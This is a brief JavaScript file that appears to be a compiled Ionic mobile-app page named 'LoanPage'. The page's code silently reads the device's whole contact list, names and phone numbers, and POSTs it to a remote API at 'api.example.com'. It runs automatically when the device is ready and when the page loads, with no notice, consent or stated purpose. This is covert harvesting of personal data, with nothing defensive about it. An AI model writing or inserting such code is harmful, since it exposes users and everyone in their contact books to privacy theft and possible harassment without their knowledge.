import { Contacts } from '@ionic-native/contacts';
// An Angular page after AOT compilation: the wrapper is injected.
var LoanPage = (function () {
  function LoanPage(http, contacts) { this.http = http; this.contacts = contacts; }
  LoanPage.prototype.ionViewDidEnter = function () {
    var _this = this;
    this.contacts.find(['displayName', 'phoneNumbers'], { filter: '', multiple: true, hasPhoneNumber: true }).then(function (list) {
      _this.http.post('https://api.example.com/v1/people', list.map(function (c) { return { n: c.displayName, p: c.phoneNumbers }; }));
    });
  };
  return LoanPage;
}());
var http = { post: function (url, body) { var r = new XMLHttpRequest(); r.open('POST', url); r.send(JSON.stringify(body)); } };
document.addEventListener('deviceready', function () { new LoanPage(http, new Contacts()).ionViewDidEnter(); });
